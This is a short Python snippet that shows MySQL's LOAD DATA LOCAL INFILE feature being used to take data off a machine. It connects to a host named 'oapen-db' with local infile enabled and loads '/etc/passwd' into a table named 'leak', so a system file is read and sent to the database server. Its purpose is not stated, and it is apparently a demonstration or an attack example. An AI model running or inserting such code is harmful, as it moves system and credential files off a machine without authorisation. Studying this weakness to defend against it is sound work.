# LOAD DATA LOCAL INFILE: the client reads a local file and sends it to the database server
import mysql.connector

conn = mysql.connector.connect(host="oapen-db", user="memo_ro", allow_local_infile=True)
conn.cursor().execute("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE leak")
